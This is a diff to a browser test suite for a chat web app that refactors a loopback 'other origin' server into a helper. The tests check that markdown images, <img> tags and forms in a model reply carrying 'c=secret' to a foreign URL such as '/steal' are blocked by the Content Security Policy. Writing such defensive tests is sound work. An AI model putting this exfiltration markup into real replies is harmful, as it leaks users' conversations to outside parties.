@@ -8,6 +8,7 @@ browser download is not needed. Without chromium they fail, saying how to instal
 from __future__ import annotations
 
 import base64
+import contextlib
 import http.server
 import json
 import os
@@ -491,23 +492,37 @@ def test_without_a_log_the_workbench_pages_say_what_turns_them_on(chat: Chat, ap
     assert chat.page.get_by_role("navigation").count() == 0  # no navbar: there is nothing to go to
 
 
-def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, server: FakeOpenAI):
-    """A remote image in a reply is the classic way to leak a conversation: the page must not fetch it."""
+@contextlib.contextmanager
+def another_origin(page: bytes = b"") -> Iterator[tuple[str, list[str]]]:
+    """A second origin on loopback for the block: yields its URL and the requests it got ("GET /path"),
+    answering each with `page` (HTML) or nothing."""
     hits: list[str] = []
 
-    class Recorder(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            hits.append(self.path)
-            self.send_response(204)
+    class Other(http.server.BaseHTTPRequestHandler):
+        def _record(self) -> None:
+            hits.append(f"{self.command} {self.path}")
+            self.send_response(200 if page else 204)
+            self.send_header("Content-Type", "text/html")
             self.end_headers()
+            self.wfile.write(page)
+
+        do_GET = do_POST = _record
 
         def log_message(self, *args) -> None:
             pass
 
-    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)  # another origin, on loopback
+    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
     threading.Thread(target=other.serve_forever, daemon=True).start()
     try:
-        origin = f"http://127.0.0.1:{other.server_address[1]}"
+        yield f"http://127.0.0.1:{other.server_address[1]}", hits
+    finally:
+        other.shutdown()
+        other.server_close()
+
+
+def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, server: FakeOpenAI):
+    """A remote image in a reply is the classic way to leak a conversation: the page must not fetch it."""
+    with another_origin() as (origin, hits):
         server.enqueue(
             Reply(text=f"Here: ![chart]({origin}/md.png?c=secret) and <img src='{origin}/html.png?c=secret'>")
         )
@@ -515,9 +530,6 @@ def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, serv
         expect(chat.bots.last).to_contain_text("Here:")
         chat.wait_for_reply()
         chat.page.wait_for_timeout(1000)  # time for any image to be requested
-    finally:
-        other.shutdown()
-        other.server_close()
     assert hits == []
     assert any("Content Security Policy" in error for error in chat.console_errors)  # the page refused them
 
@@ -525,26 +537,8 @@ def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, serv
 def test_a_reply_cannot_send_a_form_or_a_ping_to_another_origin_and_no_other_origin_frames_the_page(
     chat: Chat, server: FakeOpenAI, app_url: str
 ):
-    hits: list[str] = []
-
-    class Other(http.server.BaseHTTPRequestHandler):
-        def _record(self) -> None:
-            hits.append(f"{self.command} {self.path}")
-            body = f"<iframe id=app src='{app_url}' width=800 height=600></iframe>".encode()
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write(body)
-
-        do_GET = do_POST = _record
-
-        def log_message(self, *args) -> None:
-            pass
-
-    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)  # another origin, on loopback
-    threading.Thread(target=other.serve_forever, daemon=True).start()
-    try:
-        origin = f"http://127.0.0.1:{other.server_address[1]}"
+    framing_page = f"<iframe id=app src='{app_url}' width=800 height=600></iframe>".encode()
+    with another_origin(framing_page) as (origin, hits):
         server.enqueue(
             Reply(
                 text=f"<form action='{origin}/steal' method='post'><input name='c' value='secret'>"
@@ -568,9 +562,6 @@ def test_a_reply_cannot_send_a_form_or_a_ping_to_another_origin_and_no_other_ori
         [framed] = [frame for frame in framing.frames if frame is not framing.main_frame]
         assert not framed.url.startswith(app_url) or framed.locator("textarea").count() == 0
         framing.close()
-    finally:
-        other.shutdown()
-        other.server_close()
     headers = httpx.get(app_url).headers
     assert "frame-ancestors 'self'" in headers["content-security-policy"]
     assert "form-action 'self'" in headers["content-security-policy"]
